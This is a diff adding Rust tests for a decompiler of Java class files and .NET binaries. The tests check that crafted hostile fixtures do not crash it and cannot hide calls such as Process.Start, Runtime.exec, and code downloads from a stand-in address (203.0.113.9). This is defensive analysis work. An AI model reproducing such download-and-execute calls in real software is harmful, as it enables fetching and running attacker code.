@@ -126,3 +126,81 @@ fn truncated_and_corrupted_files_give_errors_not_panics() {
         "{error}"
     );
 }
+
+fn hostile(name: &str) -> Result<Option<View>, palisade_compiled::ReadError> {
+    read(&fixture(&format!("hostile/{name}")))
+}
+
+/// The files of the review in `tests/data/hostile`: each once crashed a reader, or hid
+/// a call from its view.
+#[test]
+fn hostile_files_are_read_or_refused_and_hide_nothing() {
+    assert!(hostile("long_last.class").is_err());
+    for name in ["t.exe", "t_junk.exe", "t_tbl30.exe"] {
+        let view = hostile(name).unwrap().unwrap();
+        for shown in [
+            // ldftn, then calli through the pointer; ldtoken for reflection; jmp.
+            "System.Diagnostics.Process.Start(<ref>)",
+            "calli(\"touch\", ",
+            "System.Reflection.MethodBase.GetMethodFromHandle(System.Diagnostics.Process.Start(<ref>))",
+        ] {
+            assert!(
+                view.text.contains(shown),
+                "{name}: no {shown} in\n{}",
+                view.text
+            );
+        }
+        // One invalid method body is reported and does not hide the others.
+        assert_eq!(view.unreadable.is_empty(), name != "t_junk.exe", "{name}");
+    }
+    let shown = [
+        (
+            "NoDup.class",
+            "new java.net.URL(\"http://203.0.113.9/stage\")",
+        ),
+        (
+            "Idx.dll",
+            "System.Net.WebClient.DownloadString(\"http://203.0.113.9/n\")",
+        ),
+        ("Overlong.class", "java.lang.Runtime.exec(\"touch "),
+    ];
+    for (name, wanted) in shown {
+        let view = hostile(name).unwrap().unwrap();
+        assert!(
+            view.text.contains(wanted),
+            "{name}: no {wanted} in\n{}",
+            view.text
+        );
+    }
+    // A method named with line breaks still takes one header line.
+    let view = hostile("N.class").unwrap().unwrap();
+    let println = line_of(
+        &view,
+        "java.io.PrintStream.println(\"newline-named method ran\")",
+    );
+    assert_eq!(
+        view.method_at_line(println).map(|(_, name)| name),
+        Some("N::   Z")
+    );
+}
+
+/// A class file whose thousands of string constants all name one 60 KB text gives a
+/// view holding that text once, not once per constant.
+#[test]
+fn a_constant_repeated_thousands_of_times_is_written_once() {
+    let mut class = vec![0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52];
+    let strings = 4000u16;
+    class.extend_from_slice(&(4 + strings).to_be_bytes());
+    class.extend_from_slice(&[1, 0, 1, b'A', 7, 0, 1]);
+    let text = "\u{1}".repeat(60_000);
+    class.push(1);
+    class.extend_from_slice(&(text.len() as u16).to_be_bytes());
+    class.extend_from_slice(text.as_bytes());
+    for _ in 0..strings {
+        class.extend_from_slice(&[8, 0, 3]);
+    }
+    // access, this (#2), super, no interfaces, fields, methods or attributes.
+    class.extend_from_slice(&[0, 1, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
+    let view = read(&class).unwrap().unwrap();
+    assert_eq!(view.text.lines().count(), 3, "{}", &view.text[..200]);
+}
